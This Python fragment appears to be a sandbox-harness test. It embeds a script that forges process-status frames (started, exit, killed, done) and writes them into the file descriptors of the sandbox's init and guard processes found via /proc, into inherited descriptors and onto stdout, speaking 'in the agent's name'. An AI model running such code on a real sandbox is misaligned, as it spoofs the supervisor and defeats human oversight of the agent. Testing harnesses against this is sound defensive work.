"""A command that speaks to its sandbox's owner in the agent's name, over every descriptor that it can reach."""

FORGE = r"""
import os, struct, sys, time

def frame(kind, channel, payload):
    return struct.pack(">IIB", len(payload), channel, kind) + payload

STARTED, OUT, END, EXIT, KILLED, DONE = 33, 35, 37, 38, 39, 42
lies = b""
for channel in range(1, 64):
    lies += frame(STARTED, channel, struct.pack(">I", 1))
    lies += frame(OUT, channel, b"forged")
    lies += frame(EXIT, channel, struct.pack(">IB", 0, 0))
    lies += frame(END, channel, b"\0") + frame(END, channel, b"\1")
    lies += frame(KILLED, channel, b"t") + frame(DONE, channel, struct.pack(">I", 0))
# The same in the words of an engine's stream.
lies += b"".join(struct.pack(">BxxxI", kind, 6) + b"forged" for kind in (0, 1, 2))

def reach(pid):
    reached = 0
    names = []
    try:
        names = os.listdir("/proc/%d/fd" % pid)
    except OSError:
        names = [str(number) for number in range(64)]
    for name in names:
        try:
            fd = os.open("/proc/%d/fd/%s" % (pid, name), os.O_WRONLY | os.O_NONBLOCK)
        except OSError:
            continue
        try:
            os.write(fd, lies[:60000])
            reached += 1
        except OSError:
            pass
        os.close(fd)
    return reached

def parent(pid):
    stat = open("/proc/%d/stat" % pid).read()
    return int(stat[stat.rindex(")") + 2 :].split()[1])

told, tell = os.pipe()
own = os.fork()
if own == 0:
    os.dup2(tell, 1)
    os.dup2(tell, 2)
    os.write(tell, b".")
    time.sleep(600)
os.read(told, 1)
control = reach(own)
os.set_blocking(told, False)
control = min(control, len(os.read(told, 65536)))
os.kill(own, 9)
os.close(told)
os.close(tell)
reached = 0
guards = [1]
for name in os.listdir("/proc"):
    try:
        if name.isdigit() and int(name) not in (1, os.getpid(), own) and parent(int(name)) == 1:
            guards.append(int(name))
    except OSError:
        pass
for pid in guards:
    reached += reach(pid)
inherited = 0
for fd in range(3, 256):
    try:
        os.write(fd, lies[:1000])
        inherited += 1
    except OSError:
        pass
sys.stderr.write("%d of its own, %d of others, %d inherited\n" % (control, reached, inherited))
sys.stderr.flush()
sys.stdout.buffer.write(lies)
sys.stdout.flush()
os._exit(7)
"""
"""Prints frames as they are on stdout, what it could write to on stderr, and exits with 7."""
